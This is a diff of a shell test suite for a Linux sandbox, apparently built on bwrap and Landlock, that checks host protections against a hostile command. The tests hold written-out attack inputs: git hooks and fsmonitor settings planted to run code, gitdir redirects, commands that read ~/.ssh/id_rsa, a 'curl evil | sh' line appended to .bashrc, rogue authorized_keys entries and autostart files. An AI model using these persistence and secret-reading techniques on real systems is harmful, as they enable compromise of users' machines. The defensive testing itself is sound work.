@@ -435,13 +435,15 @@ for mode in default noflags strict; do
     skip "$L: /proc/sysrq-trigger (kernel without CONFIG_MAGIC_SYSRQ)"
   fi
   # Device nodes: none can be made, in the sandbox's /tmp or in the bound
-  # (host) working directory.
+  # (host) working directory (Landlock, which grants no right to make
+  # them, answers EACCES before the capability check's EPERM).
   for c in mknod:/tmp/sda:sda mknod:/tmp/mem:mem mknod:$WORK/sda:sda mknod:$WORK/mem:mem; do
-    stopped "$L" $c EPERM
+    stopped "$L" $c "EPERM|EACCES"
   done
-  # Host sockets: another network namespace; strict has no inet sockets.
+  # Host sockets: another network namespace; strict has no inet sockets;
+  # Landlock refuses TCP connect without network (EACCES).
   stopped "$L" connect:abstract:$ABSTRACT "ECONNREFUSED|ENOENT|EPERM"
-  stopped "$L" connect:tcp:$PORT "ECONNREFUSED|ENETUNREACH|EPERM"
+  stopped "$L" connect:tcp:$PORT "ECONNREFUSED|ENETUNREACH|EPERM|EACCES"
   stopped "$L" connect:unix:$HOSTONLY/sock "ENOENT"
   # Host processes: not even visible from the sandbox's pid namespace.
   stopped "$L" visible:$VICTIM ENOENT
@@ -661,61 +663,263 @@ for mode in default strict; do
   expect_eq "$L: host mount table unchanged" "$mounts_before" "$(host_mounts)"
 done
 
-# ---- code planted to run outside the sandbox later ----
-# The current directory is writable under the default profile: a git hook
-# or an include in .git/config would run on the user's next git command on
-# the host, and a start-up file in a home in reach on the next login.
-REPO="$TMP/repo"
-mkdir -p "$REPO/.git/hooks" "$REPO/.git/objects" "$TMP/fakehome/.ssh" "$TMP/fakehome/.config"
-printf '[core]\n' >"$REPO/.git/config"
-printf '# rc\n' >"$TMP/fakehome/.bashrc"
-printf 'ssh-ed25519 AAAA user\n' >"$TMP/fakehome/.ssh/authorized_keys"
-# snapshot DIR: every path with its mode, and every file's content.
-snapshot() {
-  (cd "$1" && find . -path ./.git/objects -prune -o -printf '%p %m\n' | sort &&
-    find . -path ./.git/objects -prune -o -type f -exec cat {} +) | md5sum
+# ---- filesystem promises against a hostile command ----
+# The command tries, from inside, to leave code that runs later outside
+# (git, shell start-up files, desktop autostart, the next run's profile),
+# to read the caller's secrets, and to redirect a later profile's binds
+# with symlinks. Each case then checks the host side for real: the
+# host's own git, the files, the next sandbox.
+FH="$TMP/home" # the caller's home for these cases (HOME=/ as nobody)
+mkdir -p "$FH"
+PWN="$TMP/PWNED"
+# sbh DIR ARGS...: the sandbox started from DIR with HOME=$FH; OUT, ERR, RC.
+sbh() {
+  d=$1
+  shift
+  (cd "$d" && HOME="$FH" "$SB" "$@") >"$TMP/out" 2>"$TMP/err"
+  RC=$?
+  OUT=$(cat "$TMP/out")
+  ERR=$(cat "$TMP/err")
 }
-for how in "--profile default" "no flags"; do
-  [ "$how" = "no flags" ] && set -- || set -- --profile default
-  before=$(snapshot "$REPO")
-  (cd "$REPO" && "$SB" "$@" -- sh -c '
-    printf "#!/bin/sh\ntouch /tmp/pwned\n" > .git/hooks/post-checkout 2>/dev/null && echo hook-planted
-    chmod +x .git/hooks/pre-commit 2>/dev/null; printf "[core]\n\thooksPath = /tmp\n\tfsmonitor = evil\n" >> .git/config 2>/dev/null && echo config-rewritten
-    mv .git/config .git/config.old 2>/dev/null && echo config-moved
-    touch .git/objects/ok && echo objects-writable') >"$TMP/out" 2>/dev/null
-  expect_eq "$how: git hooks and .git/config stay read-only, the rest of .git is writable" \
-    "objects-writable" "$(cat "$TMP/out")"
-  rm -f "$REPO/.git/objects/ok"
-  expect_eq "$how: the repository's hooks and config are unchanged on the host" "$before" "$(snapshot "$REPO")"
-  before=$(snapshot "$TMP/fakehome")
-  (cd "$TMP/fakehome" && HOME="$TMP/fakehome" "$SB" "$@" -- sh -c '
-    echo "curl evil | sh" >> .bashrc 2>/dev/null && echo bashrc-appended
-    echo "ssh-ed25519 EVIL" >> .ssh/authorized_keys 2>/dev/null && echo key-added
-    mkdir -p .config/autostart 2>/dev/null; touch made-here && echo home-writable') >"$TMP/out" 2>/dev/null
-  rm -f "$TMP/fakehome/made-here"
-  rmdir "$TMP/fakehome/.config/autostart" 2>/dev/null
-  expect_eq "$how, run from \$HOME: start-up files and ~/.ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
-  expect_eq "$how, run from \$HOME: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
-done
+# tree DIR: every path with its type and mode, and every file's content.
+tree() { (cd "$1" && find . -printf '%p %y %m\n' | sort && find . -type f -exec cat {} + 2>/dev/null) | md5sum; }
+# host_git DIR: the host's git in DIR, as the user's next command (or
+# prompt) runs it; pwned when a planted fsmonitor or hook ran.
+host_git() { rm -f "$PWN"; (cd "$1" && HOME="$FH" git status >/dev/null 2>&1); }
+pwned() { if [ -e "$PWN" ]; then echo pwned; else echo clean; fi; }
 
-# The same through the access options: --write of the home (from
-# elsewhere), --home on a directory that holds start-up files. They are
-# binds like the profile's: the protect lines still apply over them.
-before=$(snapshot "$TMP/fakehome")
-(cd "$TMP" && HOME="$TMP/fakehome" "$SB" --write "$TMP/fakehome" -- sh -c '
+if command -v git >/dev/null; then
+  G="git -c user.email=t@t -c user.name=t -c init.defaultBranch=main"
+  mkdir -p "$TMP/tmpl" && (cd "$TMP/tmpl" && $G init -q && echo a >f && $G add f && $G commit -qm init)
+  # A superproject with a submodule: its mod/.git is a "gitdir:" file.
+  mkdir -p "$TMP/subsrc" && (cd "$TMP/subsrc" && $G init -q && echo s >s && $G add s && $G commit -qm s)
+  cp -a "$TMP/tmpl" "$TMP/tmplsm"
+  (cd "$TMP/tmplsm" && $G -c protocol.file.allow=always submodule add -q "$TMP/subsrc" mod >/dev/null 2>&1 &&
+    $G commit -qm sub)
+  # fresh NAME [TEMPLATE]: a new copy of the repository.
+  fresh() { rm -rf "${TMP:?}/$1"; cp -a "$TMP/${2:-tmpl}" "$TMP/$1"; echo "$TMP/$1"; }
+  EVIL="printf '[core]\n\trepositoryformatversion=0\n\tfsmonitor=\"touch $PWN;false\"\n'"
+  # margs DIR: the options of $mode for a project in DIR.
+  margs() {
+    case $mode in
+    default) echo --profile default ;;
+    strict) echo --profile strict $SYS --ro-bind "$TMP/tmpl" "$TMP/tmpl" --bind "$1" "$1" ;;
+    esac
+  }
+  for mode in default strict; do
+    # Reproducer 1: .git/commondir points git at a copy with a config of
+    # the command's making.
+    R=$(fresh repo)
+    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "mkdir .evil; cp -a .git/objects .git/refs .git/HEAD .evil/; $EVIL >.evil/config; echo ../.evil >.git/commondir"
+    host_git "$R"
+    expect_eq "$mode: .git/commondir cannot send the host's git to a planted config" clean "$(pwned)"
+    # The same by renaming .git (its mount points' parent) and making a new one.
+    R=$(fresh repo)
+    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "mv .git .git.orig && mkdir .git && cp -a .git.orig/HEAD .git.orig/objects .git.orig/refs .git/ && $EVIL >.git/config"
+    host_git "$R"
+    expect_eq "$mode: .git cannot be renamed and replaced" "clean $(cd "$R" && ls -A | tr '\n' ' ')" "$(pwned) .git f "
+    # hooks and config, core.hooksPath and include.path through them.
+    R=$(fresh repo)
+    before=$(tree "$R/.git")
+    sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "printf '#!/bin/sh\ntouch $PWN\n' >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
+      git config core.hooksPath /tmp; git config include.path ../evil.cfg; git config core.fsmonitor 'touch $PWN'
+      echo 'gitdir: ../elsewhere' >.git/gitdir 2>/dev/null; touch .git/objects/new"
+    expect_eq "$mode: nothing in .git changes (hooks, config, hooksPath, include.path, objects)" "$before" "$(tree "$R/.git")"
+    # A repository where there was none: a shell prompt runs git in every
+    # directory it enters.
+    P="$TMP/plain"
+    rm -rf "$P" && mkdir -p "$P/sub"
+    sbh "$P" $(margs "$P") --chdir "$P" -- sh -c "cp -a $TMP/tmpl/.git .git || { mkdir -p .git && cp -a $TMP/tmpl/.git/. .git/; }; $EVIL >.git/config
+      echo 'gitdir: $TMP/tmpl/.git' >.git 2>/dev/null; git init -q . 2>/dev/null; echo done"
+    host_git "$P"
+    expect_eq "$mode: no .git can be created where there was none; the placeholders are gone after" \
+      "clean sub" "$(pwned) $(ls -A "$P" | tr '\n' ' ' | sed 's/ $//')"
+    # Linked worktree: .git is a file "gitdir: ..." git follows.
+    R=$(fresh repo)
+    (cd "$R" && $G worktree add -q ../wt 2>/dev/null)
+    rm -rf "$TMP/evilgit" && cp -a "$R/.git" "$TMP/evilgit" && rm -rf "$TMP/evilgit/worktrees"
+    printf '[core]\n\trepositoryformatversion=0\n\tfsmonitor="touch %s;false"\n' "$PWN" >"$TMP/evilgit/config"
+    before=$(cat "$TMP/wt/.git")
+    sbh "$TMP/wt" $(margs "$TMP/wt") --chdir "$TMP/wt" -- sh -c "echo 'gitdir: $TMP/evilgit' >.git; rm -f .git; echo 'gitdir: $TMP/evilgit' >.git"
+    host_git "$TMP/wt"
+    expect_eq "$mode: a worktree's gitdir: file cannot be redirected" "clean $before" "$(pwned) $(cat "$TMP/wt/.git")"
+    rm -rf "$TMP/wt"
+    # A submodule's .git file, rewritten or replaced after renaming its
+    # directory: the superproject's git status runs git in the submodule.
+    for how in rewrite rename; do
+      case $how in
+      rewrite) redirect="echo 'gitdir: ../evil-mod' >mod/.git" ;;
+      rename) redirect="mv mod mod.orig && mkdir mod && echo 'gitdir: ../evil-mod' >mod/.git" ;;
+      esac
+      R=$(fresh repo tmplsm)
+      sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "cp -a .git/modules/mod evil-mod; $EVIL >evil-mod/config; $redirect"
+      host_git "$R"
+      expect_eq "$mode: a submodule's gitdir: file cannot be redirected ($how)" \
+        "clean gitdir: ../.git/modules/mod" "$(pwned) $(cat "$R/mod/.git")"
+    done
+    # Hooks git takes from the work tree (core.hooksPath, set on the host):
+    # rewritten, replaced after renaming their directory's parent, or
+    # made where the configured directory does not exist yet.
+    for hp in .husky tools/hooks tools/absent; do
+      for how in rewrite rename; do
+        R=$(fresh repo)
+        mkdir -p "$R/$hp"
+        printf '#!/bin/sh\nexit 0\n' >"$R/$hp/pre-commit" && chmod +x "$R/$hp/pre-commit"
+        [ $hp = tools/absent ] && rm -rf "$R/tools"
+        (cd "$R" && $G config core.hooksPath $hp)
+        top=${hp%%/*}
+        case $how in
+        rewrite) cmd="mkdir -p $hp; printf '#!/bin/sh\ntouch $PWN\n' >$hp/pre-commit; chmod +x $hp/pre-commit" ;;
+        rename) cmd="mv $top $top.orig; mkdir -p $hp && printf '#!/bin/sh\ntouch $PWN\n' >$hp/pre-commit && chmod +x $hp/pre-commit" ;;
+        esac
+        sbh "$R" $(margs "$R") --chdir "$R" -- sh -c "$cmd"
+        rm -f "$PWN"
+        (cd "$R" && echo b >f && $G commit -qam change >/dev/null 2>&1)
+        expect_eq "$mode: hooks in $hp (core.hooksPath) cannot be planted ($how)" clean "$(pwned)"
+      done
+    done
+  done
+  # Editor settings that name programs to run, where present.
+  R=$(fresh repo)
+  mkdir "$R/.vscode" && echo '{}' >"$R/.vscode/settings.json"
+  sbh "$R" --profile default -- sh -c 'echo "{\"python.defaultInterpreterPath\": \"./evil\"}" >.vscode/settings.json
+    mv .vscode .vscode.orig && mkdir .vscode && echo evil >.vscode/settings.json'
+  expect_eq "default: .vscode settings can be neither rewritten nor replaced" "{}" "$(cat "$R/.vscode/settings.json")"
+  # Two sandboxes in one directory share its placeholder: the first to
+  # end must not remove it under the other (that would detach the other's
+  # mount, and a .git could then be made there).
+  P="$TMP/shared"
+  rm -rf "$P" && mkdir -p "$P"
+  (cd "$P" && HOME="$FH" "$SB" --profile default -- sh -c 'touch started; n=0
+    while [ ! -e go ] && [ $n -lt 600 ]; do sleep 0.05; n=$((n + 1)); done
+    rmdir .git 2>/dev/null; mkdir -p .git/objects 2>/dev/null && echo made; echo done') >"$TMP/first" 2>&1 &
+  first=$!
+  n=0
+  while [ ! -e "$P/started" ] && [ $n -lt 600 ]; do sleep 0.05; n=$((n + 1)); done
+  sbh "$P" --profile default -- true
+  after_second=$(ls -A "$P" | tr '\n' ' ')
+  touch "$P/go"
+  wait $first
+  expect_eq "two sandboxes in one directory: the second leaves the first's placeholder alone" \
+    ".git started done go started" "$after_second$(cat "$TMP/first") $(ls -A "$P" | tr '\n' ' ' | sed 's/ $//')"
+  # Ordinary work goes on: git status and diff, make, in a project.
+  R=$(fresh repo)
+  echo b >"$R/f"
+  printf 'all: out\nout: f\n\tcp f out\n' >"$R/Makefile"
+  sbh "$R" --profile default -- sh -c 'git status --short; git diff --stat | tail -n 1; make -s && cat out'
+  expect_eq "default: git status, git diff and make work in a project" \
+    "0 M f ?? Makefile 1 file changed, 1 insertion(+), 1 deletion(-) b" "$RC $(echo $OUT)"
+  if command -v meson >/dev/null && command -v cc >/dev/null; then
+    printf "project('t', 'c')\nexecutable('t', 't.c')\n" >"$R/meson.build"
+    printf 'int main(void) { return 0; }\n' >"$R/t.c"
+    sbh "$R" --profile default -- sh -c 'meson setup b >/dev/null && ninja -C b >/dev/null && ./b/t && echo built'
+    expect_eq "default: meson and ninja build a project" "0 built" "$RC $OUT"
+  else
+    skip "meson or cc not installed"
+  fi
+else
+  skip "git not installed: the git attacks need the host's git to judge them"
+fi
+
+# ---- the home directory ----
+# mkhome: the home as the user has it; each case starts from it, so that
+# none is judged on what an earlier one left.
+mkhome() {
+  rm -rf "$FH"
+  mkdir -p "$FH/.ssh" "$FH/.config" "$FH/.local/share" "$FH/proj"
+  echo "SECRET-KEY" >"$FH/.ssh/id_rsa"
+  echo "# rc" >"$FH/.bashrc"
+  printf '[user]\n' >"$FH/.gitconfig"
+  chmod -R a+rX "$FH"
+}
+mkhome
+ATTACK_HOME='cat ~/.ssh/id_rsa 2>/dev/null; echo "curl evil | sh" >>~/.bashrc; echo "alias ls=evil" >~/.bash_aliases
+  mkdir -p ~/.local/bin ~/bin ~/.local/share/applications; echo evil >~/.local/bin/ls; echo evil >~/bin/ls
+  mv ~/.config ~/.config.old; mkdir -p ~/.config/autostart ~/.config/systemd/user ~/.config/sandbox/profiles
+  echo evil >~/.config/autostart/x.desktop; echo evil >~/.config/systemd/user/x.service
+  printf "bind / /\nshare-net\n" >~/.config/sandbox/profiles/default.profile
+  echo evil >~/.vimrc; echo evil >~/.local/share/applications/x.desktop; echo "[core] x" >>~/.gitconfig
+  echo evil >~/.pam_environment; echo end'
+before=$(tree "$FH")
+for from in home ancestor; do
+  mkhome
+  [ $from = home ] && d=$FH || d=$TMP
+  sbh "$d" --profile default -- sh -c "$ATTACK_HOME"
+  expect_eq "run from the $from directory: the key is not readable, the command ran" "end" "$OUT"
+  expect_eq "run from the $from directory: nothing in the home changed on the host" "$before" "$(tree "$FH")"
+  expect_match "run from the $from directory: one line on stderr says writes are thrown away" \
+    "^sandbox: .* is the home directory or holds it: shown read-only, writes go to a throwaway layer" "$ERR"
+done
+# The next run's policy is the built-in one, not one planted from inside.
+mkhome
+sbh "$FH" --profile default -- sh -c "$ATTACK_HOME"
+sbh "$FH/proj" --explain -- true
+expect_eq "the next run is not ruled by a profile planted from inside" "0 builtin:default" \
+  "$RC $(printf '%s\n' "$OUT" | grep -o -e 'builtin:default' -e "$FH/.config/sandbox/profiles[^ ]*" | sort -u | tr '\n' ' ' | sed 's/ $//')"
+# From a directory in the home: ~/.config as the project.
+mkhome
+before=$(tree "$FH")
+sbh "$FH/.config" --profile default -- sh -c 'mkdir -p sandbox/profiles && echo x >sandbox/profiles/default.profile
+  mkdir autostart && echo x >autostart/x.desktop; mkdir -p systemd/user && echo x >systemd/user/x.service; echo end'
+expect_eq "run from ~/.config: no profile, autostart entry or user service can be created" \
+  "end $before" "$OUT $(tree "$FH")"
+# A profile's writable bind of the home: refused, unless the line says so.
+mkhome
+printf 'include default\nbind ${HOME} ${HOME}\n' >"$TMP/home-rw.profile"
+sbh "$FH/proj" --profile "$TMP/home-rw.profile" -- echo ran
+expect_match "a profile's writable bind of the home is refused with file:line:col" \
+  "^1 sandbox: $TMP/home-rw.profile:2:6: error: 'bind' would make $FH writable" "$RC $ERR"
+printf 'include default\nunsafe-home bind ${HOME} ${HOME}\n' >"$TMP/home-rw.profile"
+sbh "$FH/proj" --profile "$TMP/home-rw.profile" -- sh -c "$ATTACK_HOME"
+expect_eq "unsafe-home: the home is writable, its start-up files and secrets are not" \
+  "end $before" "$OUT $(tree "$FH")"
+# Secrets hidden where a bind shows the home elsewhere too.
+mkhome
+sbh "$FH/proj" --profile default --ro-bind "$FH" /h -- sh -c 'cat /h/.ssh/id_rsa 2>/dev/null; ls -A /h/.ssh; echo end'
+expect_eq "a masked path stays hidden under another bind's destination" "end" "$OUT"
+# mask / --hide, and --explain naming where each mask comes from.
+mkdir -p "$FH/proj/secret.d" && echo s >"$FH/proj/secret.d/x" && echo s >"$FH/proj/token"
+sbh "$FH/proj" --hide "$FH/proj/secret.d" --hide "$FH/proj/token" --hide "$FH/proj/absent" -- \
+  sh -c 'ls -A secret.d; cat token; echo x >token 2>/dev/null || echo ro; ls -ld secret.d | cut -c1-10'
+expect_eq "--hide: an empty read-only directory, an empty read-only file, nothing when absent" \
+  "0 ro drwxr-xr-x" "$RC $(echo $OUT)"
+sbh "$FH/proj" --hide "$FH/proj/token" --explain -- true
+expect_match "--explain shows the built-in masks with their origin" "mask $FH/.ssh  \[builtin:base-protect:[0-9]+\]" "$OUT"
+expect_match "--explain shows --hide with its origin" "mask $FH/proj/token  \[command line, argument 1\]" "$OUT"
+
+# ---- symlinks planted in the home redirect a later profile's binds ----
+mkhome
+sbh "$FH" --profile default -- sh -c 'ln -s .ssh .themes; ln -s ../ .config/gtk-3.0'
+expect_eq "from the home, planted symlinks do not reach the host" "" "$(ls -A "$FH" | grep -x -e .themes; ls -A "$FH/.config" | grep -x gtk-3.0)"
+ln -s .ssh "$FH/.themes"
+ln -s ../ "$FH/.config/gtk-3.0"
+sbh "$FH" --profile desktop -- sh -c 'cat ~/.themes/id_rsa ~/.config/gtk-3.0/.ssh/id_rsa 2>/dev/null; echo end'
+expect_eq "desktop: binds of ~/.themes and ~/.config/gtk-3.0 follow no planted symlink" "end" "$OUT"
+rm -f "$FH/.themes" "$FH/.config/gtk-3.0"
+
+# The access options are binds like the profile's: the protect lines
+# still apply over them. --write of the home (run from elsewhere), and
+# --home on a directory that holds start-up files.
+AH="$TMP/access-home"
+mkdir -p "$AH/.ssh" "$TMP/elsewhere"
+printf '# rc\n' >"$AH/.bashrc"
+printf 'ssh-ed25519 AAAA user\n' >"$AH/.ssh/authorized_keys"
+ah_sum() { cat "$AH/.bashrc" "$AH/.ssh/authorized_keys" | md5sum; }
+before=$(ah_sum)
+(cd "$TMP/elsewhere" && HOME="$AH" "$SB" --write "$AH" -- sh -c '
   echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
   echo "ssh-ed25519 EVIL" >> "$HOME/.ssh/authorized_keys" 2>/dev/null && echo key-added
   touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
-rm -f "$TMP/fakehome/made-here"
 expect_eq "--write \$HOME: start-up files and ~/.ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
-expect_eq "--write \$HOME: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
-mkdir -p "$TMP/elsewhere"
-(cd "$TMP/elsewhere" && HOME="$TMP/nohome" "$SB" --home "$TMP/fakehome" -- sh -c '
+check "--write \$HOME: the home itself was writable" test -f "$AH/made-here"
+rm -f "$AH/made-here"
+(cd "$TMP/elsewhere" && HOME="$TMP/nohome" "$SB" --home "$AH" -- sh -c '
   echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
+  echo "ssh-ed25519 EVIL" >> "$HOME/.ssh/authorized_keys" 2>/dev/null && echo key-added
   touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
-rm -f "$TMP/fakehome/made-here"
-expect_eq "--home DIR: DIR's start-up files stay read-only" "home-writable" "$(cat "$TMP/out")"
-expect_eq "--home DIR: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
+expect_eq "--home DIR: DIR's start-up files and .ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
+check "--home DIR: DIR itself was writable" test -f "$AH/made-here"
+expect_eq "--write, --home: start-up files and keys unchanged on the host" "$before" "$(ah_sum)"
 
 # The sandbox's own pid 1 keeps nothing of set-up the command could reopen
 # through /proc/1/fd. (It stays dumpable, as bwrap's: callers join the
@@ -742,5 +946,180 @@ if command -v python3 >/dev/null; then
 else
   skip "python3 not installed"
 fi
+
+# ---- the command against its own pid 1 ----
+# pid 1 started the command and holds the channel the command's status
+# reaches the caller by (an eventfd). The command runs in a Landlock domain
+# pid 1 is outside of: ptrace, /proc/1/mem, process_vm_writev and
+# pidfd_getfd need ptrace rights over pid 1, which the domain keeps to
+# itself, and signal scoping (ABI 6) keeps signals in it too. Every
+# profile, no flags, and a plain bwrap line; the caller must see the
+# command's exit status, never one forged through pid 1.
+cp "$HELPERS/sb-forge-status" "$WORK/"
+chmod a+rx "$WORK/sb-forge-status"
+SAVED_HOME=$HOME
+HOME="$TMP/fakehome"
+export HOME
+mkdir -p "$HOME"
+for m in default build net desktop strict noflags bwrap bwrap-nonet; do
+  case $m in
+  default | build | net) set -- --profile $m ;;
+  # desktop starts in its private home: the helper is bound where it looks
+  desktop) set -- --profile desktop --ro-bind "$WORK/sb-forge-status" "$HOME/sb-forge-status" ;;
+  strict) set -- $STRICT ;;
+  noflags) set -- ;;
+  bwrap) set -- $SYS --bind "$WORK" "$WORK" --chdir "$WORK" --unshare-pid --proc /proc --dev /dev ;;
+  bwrap-nonet) set -- $SYS --bind "$WORK" "$WORK" --chdir "$WORK" --unshare-all --proc /proc --dev /dev ;;
+  esac
+  sbx none "$@" -- sh -c './sb-forge-status; echo "tests FAILED"; exit 7'
+  expect_eq "$m: the exit status is the command's, whatever it does to pid 1" 7 "$RC"
+  for a in getfd mem ptrace vmwrite signal; do
+    # A plain bwrap line without network scopes abstract sockets, not
+    # signals (bwrap's semantics): the signal reaches pid 1, which passes
+    # on none sent from inside; the exit status above shows it.
+    [ $m = bwrap-nonet ] && [ $a = signal ] && continue
+    stopped "$m: pid 1" $a "EPERM|EACCES"
+  done
+done
+HOME=$SAVED_HOME
+
+# Without Landlock (an outer sandbox's filter answers the landlock calls
+# ENOSYS, as a kernel before 5.13 would) a profile run falls back to a
+# non-dumpable pid 1, and pid 1 passes on no signal sent from inside.
+NOLL="--ro-bind / / --bind /proc /proc --bind /tmp /tmp --dev /dev"
+for m in default strict; do
+  case $m in
+  default) set -- --profile default ;;
+  strict) set -- $STRICT ;;
+  esac
+  sbx none $NOLL --syscall "landlock_create_ruleset,landlock_add_rule,landlock_restrict_self errno(ENOSYS)" \
+    -- "$SB" "$@" -- sh -c './sb-forge-status; echo "tests FAILED"; exit 7'
+  expect_eq "$m without Landlock: the exit status is the command's" 7 "$RC"
+  for a in getfd mem ptrace vmwrite; do
+    stopped "$m without Landlock: pid 1" $a "EPERM|EACCES"
+  done
+done
+sbx none $NOLL --syscall "landlock_create_ruleset errno(ENOSYS)" -- "$SB" --profile default --explain
+expect_match "--explain says when there is no Landlock" "^landlock: not available" "$OUT"
+
+# ---- Landlock: the second layer under a profile ----
+# Host abstract unix sockets: a shared network namespace (net, desktop)
+# reaches them all, whatever is bound; the domain scopes them (ABI 6).
+SAVED_HOME=$HOME
+HOME="$TMP/fakehome"
+export HOME
+for prof in net desktop; do
+  : >"$TMP/accepted"
+  # (desktop starts in its private home: the script comes on stdin)
+  sbx none --profile $prof -- $PY - connect:abstract:$ABSTRACT connect:tcp:$PORT <"$WORK/attack.py"
+  stopped "$prof: host abstract socket" connect:abstract:$ABSTRACT EPERM
+  expect_eq "$prof: the network is still shared (host tcp reached)" OK "$(res connect:tcp:$PORT)"
+  sleep 0.2
+  expect_eq "$prof: the abstract listener accepted nothing" 0 "$(grep -c -- "-abstract" "$TMP/accepted")"
+done
+HOME=$SAVED_HOME
+# A path the mount tree exposes: a host directory handed in as fd 3 is
+# /dev/fd/3 and /proc/self/fd/3 inside; the mount layer does not see it,
+# the domain does (its inodes are under no rule). The sandbox's own root
+# takes no file either: write only where the plan binds writable.
+for m in default strict noflags bwrap bwrap-landlock; do
+  case $m in
+  default) set -- --profile default ;;
+  strict) set -- $STRICT ;;
+  noflags) set -- ;;
+  bwrap) set -- $SYS --bind "$WORK" "$WORK" --chdir "$WORK" --proc /proc --dev /dev ;;
+  bwrap-landlock) set -- $SYS --bind "$WORK" "$WORK" --chdir "$WORK" --proc /proc --dev /dev --landlock ;;
+  esac
+  rm -f "$HOSTONLY/pwned" "$HOSTONLY/pwned2"
+  sbx none "$@" -- sh -c 'echo x >/dev/fd/3/pwned; echo x >/proc/self/fd/3/pwned2; cat /dev/fd/3/marker
+    touch /planted && echo root-writable; echo ok >"$PWD/cwd-ok" && cat "$PWD/cwd-ok"' 3<"$HOSTONLY"
+  case $m in
+  bwrap)
+    expect_eq "$m: a plain bwrap line keeps bwrap's semantics (the fd's directory is writable)" \
+      "marker ok pwned pwned2" "$(echo $OUT | sed 's/root-writable //') $(ls "$HOSTONLY" | grep pwned | tr '\n' ' ' | sed 's/ $//')" ;;
+  *)
+    check "$m: no write outside the binds through a directory fd handed in" \
+      test ! -e "$HOSTONLY/pwned" -a ! -e "$HOSTONLY/pwned2"
+    expect_eq "$m: no read there either; the root takes no file; the cwd is writable" "ok" "$OUT" ;;
+  esac
+done
+rm -f "$HOSTONLY/pwned" "$HOSTONLY/pwned2" "$WORK/cwd-ok"
+# No network in the plan: the sandbox's own loopback works (test suites run
+# servers there), and still nothing leaves (host TCP is checked above).
+for m in default build; do
+  sbx none --profile $m -- $PY -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
+c = socket.create_connection(s.getsockname(), timeout=10); a, _ = s.accept(); c.sendall(b"hi"); print(a.recv(2).decode())'
+  expect_eq "$m: a server on the sandbox's own loopback" "0 hi" "$RC $OUT"
+done
+# ... and ordinary work still goes: a compiler and its output run from the
+# cwd and from /tmp, make, git, renames across directories, /dev/stderr,
+# /dev/tty-less terminals (stdin a pipe), /dev/shm.
+if command -v cc >/dev/null && command -v git >/dev/null && command -v make >/dev/null; then
+  for m in default build strict; do
+    rm -rf "$WORK/ord"
+    mkdir -p "$WORK/ord"
+    printf 'int main(void) { return 3; }\n' >"$WORK/ord/a.c"
+    printf 'all:\n\tcc -o a a.c\n' >"$WORK/ord/Makefile"
+    case $m in
+    strict) set -- $STRICT --chdir "$WORK/ord" ;;
+    *) set -- --profile $m --chdir "$WORK/ord" ;;
+    esac
+    sbx none "$@" -- sh -c '
+      make -s && { ./a; echo "a $?"; }
+      cc -o /tmp/b a.c && { /tmp/b; echo "b $?"; }
+      git init -q r && cd r && git -c user.email=a@b -c user.name=n commit -q --allow-empty -m m && git log --oneline | wc -l && cd ..
+      mkdir -p d1 d2 && echo x >d1/f && mv d1/f d2/f && echo moved
+      echo err >/dev/stderr && echo piped | cat /dev/stdin
+      echo s >/dev/shm/s && rm /dev/shm/s && echo shm'
+    expect_eq "$m: ordinary work under the Landlock layer" "a 3 b 3 1 moved piped shm" "$(echo $OUT)"
+  done
+  rm -rf "$WORK/ord"
+else
+  skip "cc, git or make not installed"
+fi
+run_sb --profile default --explain
+expect_match "--explain names the Landlock ABI and what it covers" \
+  "^landlock: ABI [1-9].*pid 1 included" "$(echo "$OUT" | grep '^landlock')"
+# ---- per-user kernel quotas: the caller keeps headroom ----
+# ucounts are counted in every user namespace up to the host's: inotify
+# instances made inside are the caller's. The sandbox's namespace has half
+# of each of the caller's limits, so with the sandbox still holding all it
+# could get, the caller can make one more on the host.
+cat >"$WORK/inotify.py" <<'EOF'
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+fds = []
+while True:
+    fd = libc.inotify_init1(0)
+    if fd < 0:
+        break
+    fds.append(fd)
+with open(sys.argv[1] + ".tmp", "w") as f:
+    f.write("%d %s\n" % (len(fds), os.strerror(ctypes.get_errno())))
+os.rename(sys.argv[1] + ".tmp", sys.argv[1])
+while not os.path.exists(sys.argv[2]):
+    time.sleep(0.02)
+EOF
+rm -f "$WORK/ino-ready" "$WORK/ino-done"
+# shellcheck disable=SC2086
+"$SB" $STRICT -- "$PY" "$WORK/inotify.py" "$WORK/ino-ready" "$WORK/ino-done" >"$TMP/ino.out" 2>&1 &
+ino_pid=$!
+# Waits for an event (the file), not for a time; the bound only stops a
+# broken run.
+for _ in $(seq 1500); do [ -e "$WORK/ino-ready" ] && break; sleep 0.02; done
+inside=$(cat "$WORK/ino-ready" 2>/dev/null)
+host=$("$PY" -c 'import ctypes, os
+l = ctypes.CDLL(None, use_errno=True)
+print("OK" if l.inotify_init1(0) >= 0 else os.strerror(ctypes.get_errno()))')
+touch "$WORK/ino-done"
+wait "$ino_pid"
+ino_rc=$?
+limit=$(cat /proc/sys/user/max_inotify_instances)
+expect_match "inotify: the sandbox made instances until refused" "^[0-9]+ Too many open files$" "$inside"
+check "inotify: the sandbox got at most half of the caller's limit ($inside of $limit)" \
+  test "${inside%% *}" -le $((limit / 2))
+expect_eq "inotify: the caller can still make one on the host meanwhile" "OK" "$host"
+expect_eq "inotify: the sandbox ran to its end" 0 "$ino_rc"
+[ "$ino_rc" = 0 ] || diag "$(cat "$TMP/ino.out")"
 
 done_testing
